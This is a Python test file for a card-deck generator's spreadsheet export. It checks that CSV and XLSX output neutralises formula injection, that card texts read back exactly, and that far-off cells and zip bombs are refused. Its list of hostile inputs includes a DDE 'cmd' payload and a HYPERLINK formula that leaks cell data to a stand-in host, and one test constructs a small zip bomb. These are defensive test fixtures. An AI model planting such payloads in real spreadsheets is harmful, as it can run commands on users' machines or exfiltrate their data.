"""`export cards` is safe to open in a spreadsheet and reads back exactly: card texts a
spreadsheet would evaluate (=, +, -, @, a leading tab or carriage return, DDE `=cmd|...`,
`=HYPERLINK(...)`) are written so that no app runs them (a leading apostrophe in CSV, text
cells in XLSX, never a live formula), and `[[card_sources]]` gives back the very texts; and
the sheets it reads are bounded (a cell at XFD1048576, a zip bomb)."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from generator.deck.loader import load_deck
from generator.deck import spreadsheets
from generator.deck.spreadsheets import FORMULA_STARTS, csv_cell, csv_value
from tests.badinput import TINY

HOSTILE = [
    "=1+1", '=HYPERLINK("http://example.com/?leak="&A1, "click")', "=cmd|' /C calc'!A0", "@SUM(A1:A9)",
    "+1+1", "-1+1", "\tTabbed", "\rCarriage", "'=already quoted", "''=twice quoted", "'plain apostrophe",
    "=", "-", "- a list?", "2 + 2", "-7", "-1.5", "a = b", "ok =1+1",
]


def _deck_with_texts(folder, texts: list[str]) -> str:
    """TINY with one card per hostile text (names, codes and texts all hostile where they may be)."""
    cards = "".join(f'\n[[cards]]\nname = "Card {index}"\ncode = "C{index}"\nkind = "number"\n'
                    f'text = {_toml(text)}\nflavor = {_toml(text)}\nprops = {{ note = {_toml(text)} }}\n'
                    for index, text in enumerate(texts))
    path = folder / "hostile.toml"
    path.write_text(TINY.replace('id = "tiny"', 'id = "hostile"') + cards, encoding="utf-8")
    return path


def _toml(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\r", "\\r") + '"'


def _reimported(tmp_path, exported):
    """The deck rebuilt from the exported sheet alone."""
    folder = tmp_path / "again"
    folder.mkdir()
    (folder / exported.name).write_bytes(exported.read_bytes())
    deck = folder / "hostile.toml"
    text = TINY.replace('id = "tiny"', 'id = "hostile"')
    text = text[:text.index("[[card_sets]]")] + f'[[card_sources]]\nfile = "{exported.name}"\n'
    deck.write_text(text, encoding="utf-8")
    return load_deck(deck)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_hostile_texts_round_trip_and_nothing_is_evaluated(run_cli, tmp_path, fmt):
    path = _deck_with_texts(tmp_path, HOSTILE)
    result = run_cli("export", "cards", path, "--format", fmt, "-o", tmp_path / "out")
    assert result.exit_code == 0, result.stderr
    exported = tmp_path / "out" / "hostile" / f"hostile-cards.{fmt}"
    original = {card.code: card for card in load_deck(path).cards}
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(exported.read_bytes().decode("utf-8-sig"), newline="")))
        cells = [cell for row in rows[1:] for cell in row]
        assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS) and not _plain_number(cell)]
    else:
        book = load_workbook(exported)  # not read-only: every cell's type
        types = {cell.data_type for row in book.active.iter_rows() for cell in row if cell.value is not None}
        assert "f" not in types, "a live formula in the exported workbook"
        with zipfile.ZipFile(exported) as archive:
            assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
    for card in _reimported(tmp_path, exported).cards:
        mine = original[card.code]
        # The reader trims the spaces around a cell, but for a card's text (docs/spreadsheets.md).
        assert (card.text, card.flavor, card.props) == (mine.text.strip("\n "), mine.flavor.strip(), mine.props), \
            card.code


def _plain_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("text", HOSTILE + ["'", "''", "'''=x", "\t", "'\t"])
def test_the_csv_spelling_is_read_back_exactly(text):
    assert csv_value(csv_cell(text)) == text


def test_a_cell_far_away_is_refused_not_padded(run_cli, tmp_path):
    book = Workbook()
    book.active.append(["name", "code", "kind"])
    book.active.append(["A", "A", "number"])
    book.active["XFD1048576"] = "x"
    book.save(tmp_path / "far.xlsx")
    deck = tmp_path / "far.toml"
    text = TINY[:TINY.index("[[card_sets]]")] + '[[card_sources]]\nfile = "far.xlsx"\n'
    deck.write_text(text, encoding="utf-8")
    result = run_cli("validate", deck)
    assert result.exit_code == 1
    seen = result.stdout + result.stderr
    assert "far.xlsx:Sheet reaches" in seen and "the limit is 1,000 columns, 200,000 rows" in seen, seen
    assert "a stray cell" in seen


def test_a_zip_bomb_is_refused_before_it_is_unpacked(run_cli, tmp_path, monkeypatch):
    monkeypatch.setattr(spreadsheets, "MAX_UNPACKED", 4 * 1024 * 1024)  # the same check, a quicker bomb to make
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"<" + b" " * spreadsheets.MAX_UNPACKED + b"/>")
    assert len(bomb.getvalue()) < 10_000  # a few kilobytes that unpack to megabytes
    (tmp_path / "bomb.xlsx").write_bytes(bomb.getvalue())
    deck = tmp_path / "bomb.toml"
    deck.write_text(TINY[:TINY.index("[[card_sets]]")] + '[[card_sources]]\nfile = "bomb.xlsx"\n', encoding="utf-8")
    result = run_cli("validate", deck)
    assert result.exit_code == 1
    seen = result.stdout + result.stderr
    assert "bomb.xlsx unpacks to 2 files of" in seen and "the limit is" in seen, seen
